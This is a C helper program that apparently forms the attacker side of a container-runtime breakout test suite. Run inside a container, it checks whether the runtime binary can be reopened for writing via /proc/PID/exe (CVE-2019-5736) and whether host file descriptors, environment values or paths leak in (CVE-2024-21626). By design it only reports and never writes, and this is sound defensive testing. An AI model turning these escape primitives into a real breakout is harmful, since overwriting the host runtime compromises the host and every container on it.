/*
 * probe: the attacker's side of tests/breakout.rs, run inside a container.
 *
 * Built statically by the test (cc -static), copied into the container's rootfs as /probe.
 * It does what a hostile container process would, and prints what it obtained; the test
 * on the host judges the result. It never writes to anything it obtained: opening a file for
 * writing (without O_TRUNC) is the proof, so a runtime that is vulnerable is not damaged.
 *
 *   probe exe PID
 *       Open /proc/PID/exe with O_PATH (CVE-2019-5736: the runtime's own binary) and print
 *       "exe DEV INO REOPEN PROTECTION": its identity, what reopening it for writing through
 *       /proc/self/fd gives now, and whether a write could succeed once nothing runs it.
 *   probe watch DIR MARKER_ENV MARKER_PATH MARKER_NAME
 *       Until DIR/stop exists, poll every process in the container's pid namespace, as an
 *       attacker waiting for the runtime's exec helper: hold an O_PATH handle on each
 *       /proc/PID/exe seen, look for MARKER_ENV in /proc/PID/environ, for the host path
 *       MARKER_PATH under /proc/PID/root and for MARKER_NAME under /proc/PID/cwd. Then write
 *       DIR/report: one "exe DEV INO REOPEN PROTECTION CMDLINE" line per distinct binary, and one
 *       "environ", "root" or "cwd" line per leak seen.
 *   probe fds
 *       Print every open fd above 2 with its target (CVE-2024-21626: leaked host fds).
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#define MAX_EXES 256

struct exe {
	dev_t dev;
	ino_t ino;
	int fd;
	char cmdline[128];
};

static struct exe exes[MAX_EXES];
static int n_exes;
static int leaked_environ, leaked_root, leaked_cwd;

/* What opening the file behind fd for writing gives: "ok" or the errno's name. */
static const char *reopen_for_write(int fd)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	int w = open(path, O_WRONLY | O_CLOEXEC);
	if (w >= 0) {
		close(w);
		return "ok";
	}
	switch (errno) {
	case ETXTBSY: return "ETXTBSY";
	case EROFS: return "EROFS";
	case EACCES: return "EACCES";
	case EPERM: return "EPERM";
	default: return strerror(errno);
	}
}

/*
 * Whether writing through fd's file could ever succeed: "ro-mount" when the handle is on a
 * read-only mount (runc 1.1's read-only bind, an overlay without upper layer), "sealed" for
 * a write-sealed memfd, else "writable" (once nothing executes it any more).
 */
static const char *protection(int fd)
{
	struct statvfs sv;
	if (fstatvfs(fd, &sv) == 0 && (sv.f_flag & ST_RDONLY))
		return "ro-mount";
	char path[64];
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	int r = open(path, O_RDONLY | O_CLOEXEC);
	if (r >= 0) {
		int seals = fcntl(r, F_GET_SEALS);
		close(r);
		if (seals >= 0 && (seals & F_SEAL_WRITE))
			return "sealed";
	}
	return "writable";
}

static void read_cmdline(int pid, char *out, size_t size)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
	out[0] = 0;
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	ssize_t n = read(fd, out, size - 1);
	close(fd);
	if (n <= 0)
		return;
	out[n] = 0;
	for (ssize_t i = 0; i < n; i++)
		if (out[i] == 0 || out[i] == ' ' || out[i] == '\n')
			out[i] = '_';
}

static void grab_exe(int pid)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	int fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	struct stat st;
	if (fstat(fd, &st) < 0) {
		close(fd);
		return;
	}
	for (int i = 0; i < n_exes; i++)
		if (exes[i].dev == st.st_dev && exes[i].ino == st.st_ino) {
			close(fd);
			return;
		}
	if (n_exes == MAX_EXES) {
		close(fd);
		return;
	}
	exes[n_exes].dev = st.st_dev;
	exes[n_exes].ino = st.st_ino;
	exes[n_exes].fd = fd;
	read_cmdline(pid, exes[n_exes].cmdline, sizeof exes[n_exes].cmdline);
	n_exes++;
}

static void look_for_marker_env(int pid, const char *marker)
{
	char path[64], buf[65536];
	snprintf(path, sizeof path, "/proc/%d/environ", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	ssize_t n = read(fd, buf, sizeof buf - 1);
	close(fd);
	if (n <= 0)
		return;
	buf[n] = 0;
	for (ssize_t i = 0; i < n; i += strlen(buf + i) + 1)
		if (strstr(buf + i, marker))
			leaked_environ = 1;
}

static int exists_under(int pid, const char *link, const char *rel)
{
	char path[4096];
	snprintf(path, sizeof path, "/proc/%d/%s/%s", pid, link, rel);
	struct stat st;
	return stat(path, &st) == 0;
}

static int watch(const char *dir, const char *marker_env, const char *marker_path, const char *marker_name)
{
	char stop[4096], report[4096], partial[4096];
	snprintf(stop, sizeof stop, "%s/stop", dir);
	snprintf(report, sizeof report, "%s/report", dir);
	snprintf(partial, sizeof partial, "%s/report.partial", dir);
	int self = getpid();
	for (;;) {
		struct stat st;
		if (stat(stop, &st) == 0)
			break;
		DIR *proc = opendir("/proc");
		if (!proc)
			return 1;
		struct dirent *e;
		while ((e = readdir(proc))) {
			int pid = atoi(e->d_name);
			if (pid <= 0 || pid == self)
				continue;
			grab_exe(pid);
			look_for_marker_env(pid, marker_env);
			if (exists_under(pid, "root", marker_path))
				leaked_root = 1;
			if (exists_under(pid, "cwd", marker_name))
				leaked_cwd = 1;
		}
		closedir(proc);
	}
	/* Written aside and renamed, so the test never reads half a report. */
	FILE *out = fopen(partial, "w");
	if (!out)
		return 1;
	for (int i = 0; i < n_exes; i++)
		fprintf(out, "exe %u:%u %lu %s %s %s\n", major(exes[i].dev), minor(exes[i].dev),
			(unsigned long)exes[i].ino, reopen_for_write(exes[i].fd), protection(exes[i].fd),
			exes[i].cmdline);
	if (leaked_environ)
		fprintf(out, "environ\n");
	if (leaked_root)
		fprintf(out, "root\n");
	if (leaked_cwd)
		fprintf(out, "cwd\n");
	if (fclose(out) != 0)
		return 1;
	return rename(partial, report) == 0 ? 0 : 1;
}

static int exe(const char *pid)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	int fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0) {
		printf("exe refused %s\n", strerror(errno));
		return 0;
	}
	struct stat st;
	if (fstat(fd, &st) < 0)
		return 1;
	printf("exe %u:%u %lu %s %s\n", major(st.st_dev), minor(st.st_dev), (unsigned long)st.st_ino,
	       reopen_for_write(fd), protection(fd));
	return 0;
}

static int fds(void)
{
	DIR *dir = opendir("/proc/self/fd");
	if (!dir)
		return 1;
	int own = dirfd(dir);
	struct dirent *e;
	while ((e = readdir(dir))) {
		int fd = atoi(e->d_name);
		if (e->d_name[0] == '.' || fd <= 2 || fd == own)
			continue;
		char path[64], target[4096];
		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
		ssize_t n = readlink(path, target, sizeof target - 1);
		target[n < 0 ? 0 : n] = 0;
		printf("fd %d %s\n", fd, target);
	}
	closedir(dir);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 3 && !strcmp(argv[1], "exe"))
		return exe(argv[2]);
	if (argc == 6 && !strcmp(argv[1], "watch"))
		return watch(argv[2], argv[3], argv[4], argv[5]);
	if (argc == 2 && !strcmp(argv[1], "fds"))
		return fds();
	fprintf(stderr, "usage: probe exe PID | watch DIR MARKER_ENV MARKER_PATH MARKER_NAME | fds\n");
	return 2;
}
